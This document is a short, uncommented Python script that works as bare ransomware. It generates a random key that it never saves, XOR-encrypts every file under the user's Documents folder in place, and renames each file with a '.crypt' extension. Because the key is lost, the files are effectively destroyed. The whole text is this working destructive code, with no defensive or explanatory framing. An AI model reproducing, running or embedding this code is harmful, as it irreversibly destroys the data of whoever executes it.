from pathlib import Path
import secrets

KEY = secrets.token_bytes(32)

def xor(data: bytes) -> bytes:
    return bytes(b ^ KEY[i % len(KEY)] for i, b in enumerate(data))

for p in (Path.home() / "Documents").rglob("*"):
    if p.is_file():
        p.write_bytes(xor(p.read_bytes()))
        p.rename(p.with_suffix(p.suffix + ".crypt"))
